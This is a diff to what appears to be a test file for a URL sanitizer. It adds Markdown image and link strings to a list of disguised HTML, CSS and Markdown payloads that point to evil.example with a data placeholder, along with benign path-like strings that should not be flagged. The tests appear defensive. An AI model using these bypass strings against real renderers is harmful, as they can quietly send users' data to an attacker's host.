@@ -39,6 +39,10 @@ DISGUISED = [
     r"<img alt='a long text, longer than what is looked back for' src= '\\evil.example/?q=@'>",
     r'<object data="\\evil.example/@"></object>',
     '<img srcset="a.png 1x, //evil.example/@ 2x">',
+    r"![x](/\evil.example/?q=@)",
+    r"![x](\\\\evil.example/?q=@)",
+    r"[x](</\evil.example/?q=@>)",
+    "[x]:\n  /\\evil.example/?q=@",
     r"background: url(h\74tps\3a//evil.example/@)",
     r"background: url(\2f/evil.example/@)",
     r"@import '\2f\2f evil.example/@'",
@@ -77,6 +81,7 @@ def test_an_argument_in_disguise_leads_nowhere(text: str) -> None:
 PLAIN = [
     r"C:\Users\@\x.txt, C:\\Users\\@",
     r'path = r"\\server\share\@"',
+    r"see (\\server\share\@), f(/\d+@/), a </\ @",
     r'data = "\\n@"',
     "case 1:\n// @ wrote this",
     "default:\n//@",
